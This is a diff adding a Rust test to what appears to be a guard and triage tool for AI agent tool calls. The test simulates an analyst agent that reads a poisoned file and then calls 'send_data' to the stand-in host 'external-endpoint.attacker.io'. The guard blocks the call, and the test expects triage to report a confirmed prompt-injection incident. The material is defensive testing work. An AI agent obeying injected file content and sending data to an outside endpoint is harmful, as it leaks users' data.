@@ -1110,3 +1110,62 @@ fn usage_errors_exit_2() {
     assert_eq!(out.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&out.stderr).contains("/nonexistent.json"));
 }
+
+/// The issue's end-to-end check: the session log guard wrote is triaged directly, and the
+/// guide's sample incident comes out as `CONFIRMED_INCIDENT` with the poisoned read as the
+/// injection source. Needs `mcpsweep triage` (issue 5, another branch).
+#[test]
+#[ignore = "needs `mcpsweep triage` (issue 5): un-ignore once the triage branch is merged"]
+fn the_session_log_triages_to_a_confirmed_incident_with_the_injection_source() {
+    let dir = docs();
+    let server = filesystem(dir.path());
+    let log = dir.path().join("session.jsonl");
+    let mut g = Peer::spawn(guard(
+        &[
+            "--log",
+            log.to_str().unwrap(),
+            "--agent-id",
+            "analyst-agent-047",
+            "--role",
+            "analyst",
+            "--task",
+            "summarize_financial_reports",
+            "--allow-tool",
+            "read_text_file,search_files,list_directory",
+        ],
+        &strs(&server),
+    ));
+    g.initialize();
+    let poisoned = dir.path().join("vendor_analysis.txt");
+    g.call(
+        1,
+        "read_text_file",
+        json!({"path": dir.path().join("clean.txt")}),
+    );
+    g.call(2, "read_text_file", json!({"path": poisoned}));
+    let (_, denied) = g.call(
+        3,
+        "send_data",
+        json!({"endpoint": "external-endpoint.attacker.io"}),
+    );
+    assert_eq!(denied["error"]["code"], -32051);
+    g.finish();
+    let out = Command::new(env!("CARGO_BIN_EXE_mcpsweep"))
+        .args(["triage", log.to_str().unwrap(), "--format", "json"])
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let s = &report["sessions"][0];
+    assert_eq!(s["classification"], "CONFIRMED_INCIDENT");
+    assert_eq!(s["agent_id"], "analyst-agent-047");
+    let src = &s["injection_source"];
+    assert_eq!(src["tool"], "read_text_file");
+    assert_eq!(src["params"]["path"], poisoned.to_str().unwrap());
+    assert_eq!(report["malformed_lines"], json!([]));
+}
